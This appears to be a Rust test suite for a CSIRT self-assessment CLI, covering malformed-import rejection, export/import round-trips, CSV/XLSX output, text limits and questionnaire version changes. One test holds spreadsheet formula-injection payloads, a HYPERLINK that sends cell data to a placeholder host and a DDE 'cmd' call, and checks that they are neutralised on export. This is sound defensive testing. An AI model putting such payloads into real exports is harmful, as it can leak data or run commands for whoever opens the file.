//! Importing assessment files through the `csirt` command: a table of malformed files, each with
//! its expected error and an unchanged store, and export → import → score giving identical output.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{stderr, stdout};
use std::path::Path;
use std::process::{Command, Output};

fn csirt_db(db: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_csirt"))
        .args(args)
        .env("CSIRT_DB", db)
        .env_remove("CSIRT_QUESTIONNAIRES")
        .output()
        .expect("run csirt")
}

fn dump(db: &Path) -> String {
    csirt_store::Store::open(db).unwrap().dump().unwrap()
}

const HEAD: &str = r#""format":"csirt-assessment/1","questionnaire":"jpcert-2015","organisation":{"name":"Bad Import K.K."}"#;

fn file(body: &str) -> Vec<u8> {
    format!("{{{HEAD},{body}}}").into_bytes()
}

#[test]
fn malformed_imports_are_refused_with_a_clear_error_and_change_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("db.sqlite3");
    // A store with something in it, so "unchanged" means something.
    let demo = dir.path().join("demo.json");
    std::fs::write(&demo, csirt_db(&db, &["demo"]).stdout).unwrap();
    assert!(
        csirt_db(&db, &["assessment", "import", demo.to_str().unwrap()])
            .status
            .success()
    );
    let before = dump(&db);

    let mut too_big = file(r#""answers":{"2.8":"b"}"#);
    too_big.splice(1..1, std::iter::repeat_n(b' ', 10 * 1024 * 1024 + 1));

    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "unknown questionnaire",
            br#"{"format":"csirt-assessment/1","questionnaire":"iso-27035","organisation":{"name":"X"},"answers":{}}"#.to_vec(),
            "questionnaire iso-27035 (version ?) is not installed; install its package",
        ),
        ("unknown item", file(r#""answers":{"8.1":"a"}"#), "item 8.1: no such item"),
        ("option key not in the item", file(r#""answers":{"2.8":"d"}"#), "item 2.8: \"d\" is not an option"),
        ("wrong type", file(r#""answers":{"2.8":3}"#), "item 2.8: a single-choice item cannot take a number"),
        ("duplicate entry", file(r#""answers":{"2.8":"a","2.8":"b"}"#), "duplicate entry for item \"2.8\""),
        ("over 10 MB", too_big, "limited to 10 MB"),
        ("invalid UTF-8", b"{\"format\":\"csirt-assessment/1\",\"x\":\"\xff\xfe\"}".to_vec(), "not valid UTF-8"),
        (
            "newer format version",
            br#"{"format":"csirt-assessment/3","questionnaire":"jpcert-2015"}"#.to_vec(),
            "written by a newer version of the app",
        ),
        ("not JSON", b"format: csirt-assessment/1\n".to_vec(), "not valid JSON"),
        ("a day the calendar lacks", file(r#""date":"2015-02-30","answers":{}"#), "date \"2015-02-30\" does not exist"),
        ("a date in another form", file(r#""date":"31/03/2026","answers":{}"#), "date \"31/03/2026\" is not in the form YYYY-MM-DD"),
        ("a date in words", file(r#""date":"next week","answers":{}"#), "date \"next week\" is not in the form YYYY-MM-DD"),
        (
            "two respondents of one name",
            file(r#""answers":{},"workshop":{"respondents":[{"name":"Sato"},{"name":"Suzuki"},{"name":" ＳＡＴＯ"}]}"#),
            "respondent 3 (\" ＳＡＴＯ\"): the same name as respondent 1",
        ),
        (
            "an organisation name over two lines",
            br#"{"format":"csirt-assessment/1","questionnaire":"jpcert-2015","organisation":{"name":"Bad\nImport"},"answers":{}}"#.to_vec(),
            "control character",
        ),
        (
            "a respondent name with a tab",
            file(r#""answers":{},"workshop":{"respondents":[{"name":"Sa\tto"}]}"#),
            "control character",
        ),
        ("unknown field", file(r#""answers":{},"respondent":"me""#), "unknown field `respondent`"),
        (
            "missing format",
            br#"{"questionnaire":"jpcert-2015","organisation":{"name":"X"}}"#.to_vec(),
            "missing \"format\"",
        ),
        (
            "empty organisation name",
            br#"{"format":"csirt-assessment/1","questionnaire":"jpcert-2015","organisation":{"name":"  "},"answers":{}}"#.to_vec(),
            "the organisation needs a name",
        ),
        ("bad year-month", file(r#""answers":{"1.5":"2015-13"}"#), "item 1.5: \"2015-13\" is not a year and month"),
        ("negative team size", file(r#""answers":{"3.3":-4}"#), "item 3.3: -4 is outside the allowed range"),
        ("repeated option", file(r#""answers":{"1.2":["a","a"]}"#), "item 1.2: option \"a\" is chosen twice"),
        ("bad service answer", file(r#""answers":{"2.9.b":"yes"}"#), "item 2.9.b: \"yes\" is not a service answer"),
        ("answer to a heading", file(r#""answers":{"2.9":"a"}"#), "item 2.9: this is a heading"),
        ("target on an unscored item", file(r#""answers":{},"targets":{"1.1":"a"}"#), "item 1.1: target: only scored items take a target"),
        (
            "other text without an other option",
            file(r#""answers":{"1.1":"a"},"other":{"1.1":"R&D"}"#),
            "item 1.1: free text is given but no \"other\" option is chosen",
        ),
        ("comment on a missing item", file(r#""answers":{},"comments":{"9.1":"x"}"#), "item 9.1: comment for an item that does not exist"),
        (
            "comment longer than its limit",
            file(&format!(r#""answers":{{}},"comments":{{"4.10":"{}"}}"#, "x".repeat(32_768))),
            "item 4.10: the comment is limited to 10000 characters (32768 given)",
        ),
        (
            "evidence longer than its limit",
            file(&format!(r#""answers":{{}},"evidence":{{"2.8":"{}"}}"#, "証".repeat(10_001))),
            "item 2.8: the evidence is limited to 10000 characters (10001 given)",
        ),
        (
            "free-text answer longer than its limit",
            file(&format!(r#""answers":{{"2.9.w":"{}"}}"#, "w".repeat(10_001))),
            "item 2.9.w: the free-text answer is limited to 10000 characters",
        ),
        (
            "organisation name with a line break",
            br#"{"format":"csirt-assessment/1","questionnaire":"jpcert-2015","organisation":{"name":"CSIRT\nTokyo"},"answers":{}}"#.to_vec(),
            "the organisation's name cannot contain a line break, tab or other control character (U+000A)",
        ),
        (
            "organisation name longer than its limit",
            format!(r#"{{"format":"csirt-assessment/1","questionnaire":"jpcert-2015","organisation":{{"name":"{}"}},"answers":{{}}}}"#, "N".repeat(201)).into_bytes(),
            "the organisation's name is limited to 200 characters (201 given)",
        ),
        (
            "respondent name with a tab",
            file(r#""answers":{},"workshop":{"respondents":[{"name":"Ann\tLee"}]}"#),
            "workshop, respondent 1 (\"Ann\\tLee\"): the respondent's name cannot contain",
        ),
        (
            "agreement note longer than its limit",
            file(&format!(r#""answers":{{"2.8":"b"}},"workshop":{{"consensus":{{"2.8":{{"answer":"b","note":"{}"}}}}}}"#, "n".repeat(10_001))),
            "item 2.8: workshop, agreed answer: the agreement note is limited to 10000 characters",
        ),
    ];
    assert!(cases.len() >= 12);
    for (name, bytes, expected) in cases {
        let path = dir.path().join("bad.json");
        std::fs::write(&path, &bytes).unwrap();
        let out = csirt_db(
            &db,
            &[
                "assessment",
                "import",
                path.to_str().unwrap(),
                "--lang",
                "en",
            ],
        );
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(1), "{name}: {err}");
        assert!(
            err.contains(expected),
            "{name}: expected {expected:?}, got {err}"
        );
        assert!(!err.contains("panicked"), "{name}: {err}");
        assert_eq!(dump(&db), before, "{name}: the store changed");
    }
}

#[test]
fn export_import_into_a_fresh_database_scores_identically() {
    let dir = tempfile::tempdir().unwrap();
    let first = dir.path().join("first.sqlite3");
    let second = dir.path().join("second.sqlite3");
    let demo = dir.path().join("demo.json");
    std::fs::write(&demo, csirt_db(&first, &["demo", "--lang", "en"]).stdout).unwrap();
    let id = stdout(&csirt_db(
        &first,
        &["assessment", "import", demo.to_str().unwrap()],
    ));
    let id = id.trim();
    let exported = dir.path().join("exported.json");
    let out = csirt_db(
        &first,
        &["assessment", "export", id, "-o", exported.to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let out = csirt_db(
        &second,
        &["assessment", "import", exported.to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let id2 = stdout(&out);
    let reexported = dir.path().join("reexported.json");
    let out = csirt_db(
        &second,
        &[
            "assessment",
            "export",
            id2.trim(),
            "-o",
            reexported.to_str().unwrap(),
        ],
    );
    assert!(out.status.success());

    let score = |f: &Path| stdout(&csirt_db(&first, &["score", f.to_str().unwrap(), "--json"]));
    let (a, b, c) = (score(&demo), score(&exported), score(&reexported));
    assert!(a.contains("\"overall\""));
    assert_eq!(a, b);
    assert_eq!(b, c);
    assert_eq!(
        std::fs::read_to_string(&exported).unwrap(),
        std::fs::read_to_string(&reexported).unwrap()
    );
}

#[test]
fn csv_and_xlsx_exports_hold_answers_scores_and_gaps() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("db.sqlite3");
    let demo = dir.path().join("demo.json");
    std::fs::write(&demo, csirt_db(&db, &["demo", "--lang", "en"]).stdout).unwrap();
    let id = stdout(&csirt_db(
        &db,
        &["assessment", "import", demo.to_str().unwrap()],
    ));
    let csv_path = dir.path().join("a.csv");
    let out = csirt_db(
        &db,
        &[
            "assessment",
            "export",
            id.trim(),
            "--format",
            "csv",
            "--lang",
            "en",
            "-o",
            csv_path.to_str().unwrap(),
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let csv = std::fs::read_to_string(&csv_path).unwrap();
    let csv = csv.trim_start_matches('\u{feff}');
    let mut lines = csv.lines();
    assert!(lines
        .next()
        .unwrap()
        .starts_with("Item,Question,Type,Answer (key),Answer"));
    let authority = csv.lines().find(|l| l.starts_with("2.8,")).unwrap();
    // Level 2 of 2, score 100, and 97 % of surveyed teams at or above (12 % + 85 %, exact).
    assert!(authority.contains(",2,2,100.0,"), "{authority}");
    assert!(authority.contains("97.0%,exact-percent"), "{authority}");

    let xlsx_path = dir.path().join("a.xlsx");
    let out = csirt_db(
        &db,
        &[
            "assessment",
            "export",
            id.trim(),
            "--format",
            "xlsx",
            "-o",
            xlsx_path.to_str().unwrap(),
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let bytes = std::fs::read(&xlsx_path).unwrap();
    assert_eq!(&bytes[..2], b"PK", "an XLSX file is a zip archive");
    let text = String::from_utf8_lossy(&bytes);
    assert!(
        text.contains("xl/worksheets/sheet2.xml"),
        "two sheets: answers and gaps"
    );
}

/// Runs `csirt assessment export <id> --format <format>` and returns the file and stderr.
fn export(db: &Path, id: &str, format: &str, lang: &str, path: &Path) -> String {
    let out = csirt_db(
        db,
        &[
            "assessment",
            "export",
            id,
            "--format",
            format,
            "--lang",
            lang,
            "-o",
            path.to_str().unwrap(),
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    stderr(&out)
}

/// The rows of an exported CSV (after its byte-order mark), as a CSV reader sees them.
fn csv_rows(path: &Path) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).unwrap();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn imported(dir: &Path, db: &Path, a: &csirt_model::Assessment) -> String {
    let path = dir.join("in.json");
    std::fs::write(&path, a.to_json_pretty()).unwrap();
    let out = csirt_db(db, &["assessment", "import", path.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    stdout(&out).trim().to_string()
}

/// The issue's inputs: formulas in comments and in a free-text answer come out of the CSV as
/// text a spreadsheet shows, not runs; ids and look-alike numbers stay exactly as typed.
#[test]
fn csv_export_neutralises_formulas_and_keeps_ids_as_typed() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("db.sqlite3");
    let mut a = csirt_model::demo::demo_assessment(csirt_model::Lang::En);
    let hyperlink = r#"=HYPERLINK("http://x.invalid/?"&A1,"open")"#;
    let dde = "@SUM(1+1)*cmd|' /C calc'!A0";
    a.comments.insert("4.1".into(), hyperlink.into());
    a.comments.insert("4.10".into(), dde.into());
    a.comments.insert("4.2".into(), "007".into());
    a.evidence.insert("4.3".into(), "NaN".into());
    a.evidence.insert("4.4".into(), "-1".into());
    a.answers
        .insert("2.9.w".into(), csirt_model::Answer::Text("=1+1".into()));
    let id = imported(dir.path(), &db, &a);
    let csv_path = dir.path().join("a.csv");
    let warnings = export(&db, &id, "csv", "en", &csv_path);
    assert!(!warnings.contains("warning"), "{warnings}");
    let rows = csv_rows(&csv_path);
    let row = |item: &str| rows.iter().find(|r| r[0] == item).unwrap().clone();
    assert_eq!(row("4.1")[14], format!("'{hyperlink}"));
    assert_eq!(row("4.10")[14], format!("'{dde}"));
    assert_eq!(row("2.9.w")[3], "'=1+1");
    assert_eq!(row("4.4")[15], "'-1");
    assert_eq!(row("4.2")[14], "007");
    assert_eq!(row("4.3")[15], "NaN");
    assert!(rows.iter().any(|r| r[0] == "4.10") && rows.iter().any(|r| r[0] == "4.1"));
    for r in &rows {
        for cell in r {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run as a formula"
            );
        }
    }
}

/// A comment stored before the limits existed (written into the database directly) is cut in
/// both exports with a marker, the CLI warns naming the item, and the files are complete.
#[test]
fn a_cell_too_long_for_excel_is_cut_with_a_warning_not_a_failed_file() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("db.sqlite3");
    let a = csirt_model::demo::demo_assessment(csirt_model::Lang::Ja);
    let id = imported(dir.path(), &db, &a);
    {
        let conn = rusqlite::Connection::open(&db).unwrap();
        let long = "長".repeat(32_768);
        let n = conn
            .execute(
                "INSERT INTO answer_note (respondent_id, item_id, comment, evidence, updated_at)
                 SELECT id, '4.10', ?1, NULL, '2026-01-01T00:00:00Z' FROM respondent
                 WHERE assessment_id = ?2 AND is_default = 1
                 ON CONFLICT (respondent_id, item_id) DO UPDATE SET comment = excluded.comment",
                rusqlite::params![long, id.parse::<i64>().unwrap()],
            )
            .unwrap();
        assert_eq!(n, 1);
    }
    for lang in ["ja", "en"] {
        let csv_path = dir.path().join(format!("{lang}.csv"));
        let warnings = export(&db, &id, "csv", lang, &csv_path);
        let expected = match lang {
            "ja" => "項目 4.10",
            _ => "item 4.10",
        };
        assert!(warnings.contains(expected), "{lang}: {warnings}");
        let rows = csv_rows(&csv_path);
        let comment = &rows.iter().find(|r| r[0] == "4.10").unwrap()[14];
        assert!(comment.starts_with("長長長"));
        assert!(
            comment.ends_with(']'),
            "{lang}: the marker ends the cut cell"
        );
        assert!(comment.encode_utf16().count() <= 32_767);
        assert!(
            rows.iter().any(|r| r[0] == "6.3"),
            "{lang}: rows after the cut are there"
        );

        let xlsx_path = dir.path().join(format!("{lang}.xlsx"));
        let warnings = export(&db, &id, "xlsx", lang, &xlsx_path);
        assert!(warnings.contains(expected), "{lang}: {warnings}");
        let bytes = std::fs::read(&xlsx_path).unwrap();
        assert_eq!(&bytes[..2], b"PK");
    }
}

/// The store refuses a text over its limit at every save that takes one, naming the item, and
/// changes nothing.
#[test]
fn the_store_refuses_over_long_texts_and_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("db.sqlite3");
    let set = csirt_model::builtin().unwrap();
    let q = &set.questionnaire;
    let a = csirt_model::demo::demo_assessment(csirt_model::Lang::En);
    let id: i64 = imported(dir.path(), &db, &a).parse().unwrap();
    let before = dump(&db);
    let mut store = csirt_store::Store::open(&db).unwrap();
    let long = "x".repeat(10_001);
    let errors = [
        store.save_note(q, id, None, "4.10", Some(&long), None),
        store.save_note(q, id, None, "4.10", None, Some(&long)),
        store.save_answer(
            q,
            id,
            None,
            "2.9.w",
            &csirt_model::Answer::Text(long.clone()),
            None,
        ),
        store.set_consensus(
            q,
            id,
            "2.8",
            Some(&csirt_model::Answer::Text("b".into())),
            None,
            Some(&long),
        ),
    ];
    for e in errors {
        let e = e.unwrap_err();
        assert!(
            matches!(e, csirt_store::StoreError::InvalidAnswer { .. }),
            "{e}"
        );
        assert!(e.to_string().contains("limited to"), "{e}");
    }
    assert_eq!(dump(&db), before, "a refused save changed the store");
    assert!(store
        .save_note(q, id, None, "4.10", Some(&"x".repeat(10_000)), None)
        .is_ok());
    drop(store);
    assert_ne!(dump(&db), before, "the longest allowed comment is saved");
}

/// A questionnaire of the user's own, `acme-csirt`, in a folder of folders: version 1.0 (the
/// shipped items under another id), or version 2.0, the same folder edited in place with option
/// c of 1.1 and the whole item 1.6 dropped. Returns the folder of folders.
fn acme(dir: &Path, version: u8) -> std::path::PathBuf {
    let src =
        std::fs::read_to_string(common::questionnaire_dir().join("questionnaire.toml")).unwrap();
    let src = src.replacen("id = \"jpcert-2015\"", "id = \"acme-csirt\"", 1);
    let src = src.replacen("version = \"2015.1\"", "version = \"1.0\"", 1);
    let src = if version == 2 {
        let src = src.replacen("version = \"1.0\"", "version = \"2.0\"", 1);
        let at = src.find("id = \"1.1\"").unwrap();
        let c = at + src[at..].find("  { key = \"c\"").unwrap();
        let end = c + src[c..].find('\n').unwrap() + 1;
        let src = format!("{}{}", &src[..c], &src[end..]);
        let start = src.find("[[items]]\nid = \"1.6\"").unwrap();
        let next = start + 1 + src[start + 1..].find("[[items]]").unwrap();
        format!("{}{}", &src[..start], &src[next..])
    } else {
        src
    };
    let root = dir.join("questionnaires");
    std::fs::create_dir_all(root.join("acme")).unwrap();
    std::fs::write(root.join("acme/questionnaire.toml"), src).unwrap();
    root
}

#[test]
fn a_questionnaire_changed_under_its_assessment_is_named_and_nothing_is_lost() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("db.sqlite3");
    let root = acme(dir.path(), 1);
    let qs = root.to_str().unwrap();
    let run = |args: &[&str]| {
        let mut args = args.to_vec();
        if !args.contains(&"--questionnaires") {
            args.extend(["--questionnaires", qs]);
        }
        csirt_db(&db, &args)
    };
    for args in [
        &["org", "add", "Versioned K.K."][..],
        &[
            "assessment",
            "new",
            "--org",
            "1",
            "--questionnaire",
            "acme-csirt",
            "--date",
            "2026-02-01",
        ],
        &["assessment", "answer", "1", "1.1", "\"c\""],
        &["assessment", "answer", "1", "1.6", "\"2015-04\""],
        &["assessment", "answer", "1", "4.1", "\"b\""],
    ] {
        let out = run(args);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
    }
    let before = dump(&db);
    // Under the version it was answered with, nothing to say.
    let out = run(&["assessment", "show", "1", "--lang", "en"]);
    assert!(stderr(&out).is_empty(), "{}", stderr(&out));
    // The user edits the folder in place to version 2.0.
    acme(dir.path(), 2);

    // Under the edited folder: show, report and CSV warn and name each misfit, in the
    // user's language, and exit 0 with what fits.
    let report = dir.path().join("r.pdf");
    let csv = dir.path().join("a.csv");
    for (lang, says) in [
        (
            "en",
            [
                "version 1.0",
                "version 2.0 is loaded",
                "item 1.1 (facilitator's answer): \"c\"",
                "item 1.6 (facilitator's answer): \"2015-04\"",
                "drop-misfits 1",
            ],
        ),
        (
            "ja",
            [
                "版 1.0",
                "版 2.0",
                "項目 1.1（進行役の回答）: \"c\"",
                "項目 1.6（進行役の回答）",
                "drop-misfits 1",
            ],
        ),
    ] {
        for args in [
            vec!["assessment", "show", "1"],
            vec!["assessment", "report", "1", "-o", report.to_str().unwrap()],
            vec![
                "assessment",
                "export",
                "1",
                "--format",
                "csv",
                "-o",
                csv.to_str().unwrap(),
            ],
        ] {
            let mut args = args.clone();
            args.extend(["--questionnaires", qs, "--lang", lang]);
            let out = run(&args);
            assert!(out.status.success(), "{args:?}: {}", stderr(&out));
            for s in says {
                assert!(
                    stderr(&out).contains(s),
                    "{args:?}: {s:?} in {}",
                    stderr(&out)
                );
            }
        }
    }
    // The interchange file could not be imported: refused, naming them; no file written.
    let file = dir.path().join("a.json");
    let out = run(&[
        "assessment",
        "export",
        "1",
        "-o",
        file.to_str().unwrap(),
        "--questionnaires",
        qs,
        "--lang",
        "en",
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("2 answer(s) no longer fit"),
        "{}",
        stderr(&out)
    );
    assert!(!file.exists());
    assert_eq!(dump(&db), before, "reading changed the store");
    // Still all there under the old version.
    acme(dir.path(), 1);
    let shown = stdout(&run(&["assessment", "show", "1", "--lang", "en"]));
    acme(dir.path(), 2);
    assert!(
        shown
            .lines()
            .any(|l| l.starts_with("1.1 ") && l.contains("Legal")),
        "{shown}"
    );

    // Answer 1.1 again, drop what the new version lacks: the file says 2.0 and imports.
    for args in [
        &[
            "assessment",
            "answer",
            "1",
            "1.1",
            "\"b\"",
            "--questionnaires",
            qs,
        ][..],
        &[
            "assessment",
            "drop-misfits",
            "1",
            "--questionnaires",
            qs,
            "--lang",
            "en",
        ],
    ] {
        let out = run(args);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
    }
    let out = run(&[
        "assessment",
        "export",
        "1",
        "-o",
        file.to_str().unwrap(),
        "--questionnaires",
        qs,
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let written: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    assert_eq!(written["questionnaire_version"], "2.0");
    let other = dir.path().join("other.sqlite3");
    let out = csirt_db(
        &other,
        &[
            "assessment",
            "import",
            file.to_str().unwrap(),
            "--questionnaires",
            qs,
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn a_workshop_file_whose_answers_agree_in_another_form_imports() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("db.sqlite3");
    let path = dir.path().join("room.json");
    // Both chose a and h, in another order; both said 5 people, as 5 and 5.0; the file writes the merged
    // answers in a third form.
    std::fs::write(
        &path,
        file(
            r#""answers":{"1.2":["h","a"],"3.3":5.0},"workshop":{"respondents":[
                {"name":"A","answers":{"1.2":["a","h"],"3.3":5}},
                {"name":"B","answers":{"1.2":["h","a"],"3.3":5.0}}]}"#,
        ),
    )
    .unwrap();
    let out = csirt_db(&db, &["assessment", "import", path.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let id = stdout(&out);
    let div = stdout(&csirt_db(
        &db,
        &["assessment", "divergence", id.trim(), "--json"],
    ));
    let div: serde_json::Value = serde_json::from_str(&div).unwrap();
    for d in div.as_array().unwrap() {
        assert_eq!(d["disagreement"], 0.0, "{d}");
    }
    let shown = stdout(&csirt_db(&db, &["assessment", "show", id.trim(), "--json"]));
    let shown: serde_json::Value = serde_json::from_str(&shown).unwrap();
    assert!(shown["answers"]["1.2"].is_array(), "{shown}");
    assert!(shown["answers"]["3.3"].is_number(), "{shown}");
}
